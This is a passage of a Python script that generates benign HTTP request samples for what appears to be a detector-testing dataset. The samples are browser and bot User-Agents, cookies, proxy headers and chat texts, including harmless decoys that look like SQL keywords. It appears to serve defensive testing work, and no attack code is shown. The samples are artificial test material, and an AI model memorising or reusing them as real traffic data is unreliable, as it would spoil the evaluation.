    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 [FBAN/FBIOS;FBAV/458.0.0.36.108;FBBV/585633364;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;"
    "FBSV/17.4;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/AP1A.240405.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Instagram 329.0.0.41.93 Android",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0", "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slack-ImgProxy (+https://api.slack.com/robots)",
    "Discordbot/2.0 (+https://discordapp.com)", "WhatsApp/2.23.20.0 A", "TelegramBot (like TwitterBot)",
    "curl/8.5.0", "Wget/1.21.4", "python-requests/2.31.0", "python-httpx/0.27.0", "aiohttp/3.9.5 Python/3.12",
    "Go-http-client/2.0", "okhttp/4.12.0", "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "undici", "PostmanRuntime/7.37.3", "insomnia/2023.5.8", "HTTPie/3.2.2", "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    "MyApp/5.2.1 (iPhone; iOS 17.4; Scale/3.00)", "ExampleApp/3.14.0 CFNetwork/1494.0.7 Darwin/23.4.0",
    "aws-sdk-js/3.556.0 ua/2.0 os/linux#5.15 lang/js md/nodejs#20.12.2 api/s3#3.556.0",
    "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#6.1 md/arch#x86_64 lang/python#3.12.3",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GitHub-Hookshot/a1b2c3d",
    "Datadog Agent/7.52.0", "kube-probe/1.29", "ELB-HealthChecker/2.0", "Prometheus/2.51.2",
    "UptimeRobot/2.0 (+http://www.uptimerobot.com/)", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17425; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Teams/24060.2623.2750.6118",
    "Zoom 5.17.11 (Mac OS X 14.4.1)", "Grammarly/1.0 (+https://www.grammarly.com)",
    "Mozilla/5.0 (Linux; U; Android 10; en-US; RMX2020 Build/QP1A.190711.020) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306 Mobile Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Roku/DVP-12.5 (12.5.0.4178-C3)", "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.9",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 "
    "Safari/537.36",
]
CONSENT_COOKIES = [
    "OptanonConsent=isGpcEnabled=0&datestamp=Tue+Jun+04+2024+10%3A15%3A02+GMT%2B0200&version=202403.1.0"
    "&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0",
    "OptanonAlertBoxClosed=2024-06-04T08:15:02.114Z",
    "CookieConsent={stamp:%27-1%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:true%2Cmarketing:false"
    "%2Cmethod:%27explicit%27%2Cver:1%2Cutc:1717488902114%2Cregion:%27de%27}",
    "euconsent-v2=CP8x_gAP8x_gAAKA1AENAwEsAP_gAEPgAAAAgbNf_X__b2_r-_5_f_t0eY1P9_7__-0zjhfdl-8N3f_X_L8X52M7vF36tq4KuR",
    "cookieyes-consent=consentid:Yk5WcW1kZ0x2,consent:yes,action:yes,necessary:yes,functional:yes,analytics:no",
    "_ga=GA1.1.1234567890.1717488902", "_ga_ABC123XYZ=GS1.1.1717488902.3.1.1717489010.0.0.0",
    "_gid=GA1.2.987654321.1717488902", "_fbp=fb.1.1717488902114.1234567890", "_gcl_au=1.1.1640583215.1717488902",
    "ajs_anonymous_id=%22b1f2e3d4-5a6b-7c8d-9e0f-a1b2c3d4e5f6%22", "mp_1a2b3c_mixpanel=%7B%22distinct_id%22%3A%20%22"
    "18f2a%22%2C%22%24device_id%22%3A%20%2218f2a%22%7D", "intercom-id-abc123=7f9e8d7c-6b5a-4d3c-2b1a-0f9e8d7c6b5a",
    "hubspotutk=5f3c2a1b0e9d8c7b6a5f4e3d2c1b0a9f", "__hstc=12345678.5f3c2a1b.1717488902114.1717488902114.1.1",
    "theme=dark", "theme=light", "lang=en-US", "locale=fr_CH", "tz=Europe%2FZurich", "sidebar_collapsed=true",
    "cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22TS-01%22%2C%22qty%22%3A2%7D%5D%7D", "currency=EUR",
    "recently_viewed=1042%2C1043%2C2210", "ab_test=checkout_v2%3Avariant_b", "__cf_bm=Xq3r.abcDEF-1717488902-1.0.1.1",
    "XSRF-TOKEN=eyJpdiI6IkR2dE1oQ3l6OVE9PSIsInZhbHVlIjoiZm9vIn0%3D", "csrftoken=Jk4b0mNq2Rs8TvWx3Yz6Ab9Cd1Ef5Gh7",
    "remember_me=1", "tour_done=1%2C2%2C3", "timezone_offset=-120", "dismissed_banners=maint-2024-06%2Cnew-ui",
]
XFF_VALUES = [
    "203.0.113.195", "203.0.113.195, 70.41.3.18, 150.172.238.178", "2001:db8:85a3:8d3:1319:8a2e:370:7348",
    "198.51.100.23, 10.0.0.7", "192.0.2.44, 172.16.5.9, 10.1.2.3", "unknown, 198.51.100.9",
    "100.64.12.7", "2001:db8::1, 203.0.113.7",
]
FORWARDED_VALUES = [
    "for=192.0.2.60;proto=https;by=203.0.113.43", "for=\"[2001:db8:cafe::17]:4711\"",
    "for=192.0.2.43, for=198.51.100.17;proto=https", "for=unknown;host=app.example.com;proto=https",
    "for=_hidden, for=_SEVKISEK", "proto=https;host=app.example.com",
]
ACCEPT_LANGUAGES = [
    "en-US,en;q=0.9", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "zh-CN,zh;q=0.9,en;q=0.8", "ja,en-US;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "es-419,es;q=0.9", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7", "nl", "*", "en-GB,en;q=0.5",
    "sr-Latn-RS,sr;q=0.9", "zh-Hant-TW;q=0.8, en;q=0.5", "ar-EG,ar;q=0.9,en;q=0.8",
]
FORWARDED_HOSTS = ["app.example.com", "app.example.com:443", "api.example.com", "staging.app.example.com",
                   "app.example.com, edge.example.net"]
REQUESTED_WITH = ["XMLHttpRequest", "com.example.app", "com.android.browser", "Fetch", "ShockwaveFlash/32.0.0.465"]
REAL_IPS = ["203.0.113.7", "198.51.100.250", "192.0.2.1", "2001:db8::42", "100.64.0.9", "10.20.30.40"]

SLACK_TEXTS = [
    "the Referer on those support tickets shows /search?q=O%27Brien, apostrophes are encoded fine",
    "our analytics cookie is _ga=GA1.2..., consent banner stores OptanonConsent",
    "Googlebot and bingbot crawled the docs site yesterday, nothing odd in the User-Agent stats",
    "X-Forwarded-For has the client first, then each proxy: 203.0.113.5, 10.0.0.7",
    "somebody searched for \"union street\" and \"select comfort\" in the shop, both fine",
    "the sleep study page got 10k hits after the newsletter",
    "I pasted `SELECT * FROM users WHERE id = 42` in the runbook, don't run it on prod",
    "alert fatigue is real, muting the disk-usage alert until Monday",
    "the script for the demo video is in the drive, Tom's version",
    "curl -H 'Accept-Language: fr-CH' https://app.example.com/ returns French, as expected",
    "Ben & Jerry's account renewed, R&D budget approved",
    "python-requests/2.31.0 clients should send our SDK header instead",
    "the Forwarded header looks like for=192.0.2.60;proto=https, nginx parses it",
    "exec summary for Q3 is attached, the window for comments closes Friday",
    "Dr. Jekyll & Mr. Hyde is the book club pick, 5' 11\" shelf in the lounge",
    "who is on call? the ping from the pager woke me at 3 am",
    "the Java developer role is posted, php meetup on Thursday",
    "cat food order for the office cat is in the shared cart",
    "the drop-down menu bug is fixed in 3.14, select the new version",
    "our UA string is MyApp/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "the cookie consent banner says necessary, analytics, marketing",
    "apples AND oranges, status:open OR status:pending both work in search now",
    "L'Oréal and McDonald's invoices came in, order 10042 shipped",
    "the kube-probe/1.29 health checks are noisy in the access log",
    "TCP/IP basics session at 9:30, bring a laptop",
]


def _benign_req(n: int, headers: dict[str, str]) -> dict[str, Any]:
    return carrier(n, headers)


def benign() -> Iterator[dict[str, Any]]:
    rng = random.Random(76)
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}

    # Referers of the product's pages with real searches and filters
    for i, text in enumerate(SEARCHES):
        for k in range(2):
            m = i * 2 + k
            headers = {**_base_headers(rng.choice(BROWSERS)), "Referer": referer_url(m + rng.randrange(10), text)}
            yield rec("referer", "header:Referer", _benign_req(m, headers))
    for i, (path, query) in enumerate(REFERER_ONLY_FILTERS * 2):
        url = f"https://app.example.com{path}" + (f"?{query}" if query else "")
        yield rec("referer", "header:Referer", _benign_req(i, {**_base_headers(rng.choice(BROWSERS)), "Referer": url}))
    # the same searches in the API's own query
    for i, text in enumerate(SEARCHES):
        uri = f"/api/users?q={urllib.parse.quote(text, safe='')}&page={i % 5 + 1}"
        yield rec("search", "query", {"method": "GET", "uri": uri, "body": "",
                                      "headers": _base_headers(rng.choice(BROWSERS))})
    # browsers', bots' and SDKs' User-Agents
    for i, ua in enumerate(USER_AGENTS):
        for k in range(2):
            yield rec("ua", "header:User-Agent", _benign_req(i * 2 + k, {**_base_headers(), "User-Agent": ua}))
    # consent, analytics and preference cookies, and recent searches
    for i in range(len(CONSENT_COOKIES) * 3):
        picks = rng.sample(CONSENT_COOKIES, 3)
        cookie = "; ".join([f"session=s%3A{i:06d}Qm9vb2tzIGFyZSBmdW4.x7Yz", *picks])
        yield rec("cookie", "cookie", _benign_req(i, {**_base_headers(rng.choice(BROWSERS)), "Cookie": cookie}))
    for i, text in enumerate(SEARCHES):
        name = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        yield rec("cookie", "cookie", _benign_req(i, {**_base_headers(rng.choice(BROWSERS)),
                                                      "Cookie": cookie_header(i, name, text)}))
    # proxy chains and negotiation headers
    proxy: list[tuple[str, str]] = (
        [("X-Forwarded-For", v) for v in XFF_VALUES] + [("Forwarded", v) for v in FORWARDED_VALUES]
        + [("Accept-Language", v) for v in ACCEPT_LANGUAGES] + [("X-Forwarded-Host", v) for v in FORWARDED_HOSTS]
        + [("X-Requested-With", v) for v in REQUESTED_WITH] + [("X-Real-IP", v) for v in REAL_IPS])
    for i, (hname, value) in enumerate(proxy * 2):
        yield rec("proxy", f"header:{hname}", _benign_req(i, {**_base_headers(rng.choice(BROWSERS)), hname: value}))
    for i, text in enumerate(SEARCHES):
        yield rec("proxy", "header:X-Search-Term",
                  _benign_req(i, {**_base_headers(rng.choice(BROWSERS)), "X-Search-Term": header_safe(text)}))


if __name__ == "__main__":
    print_records(attacks(), benign())
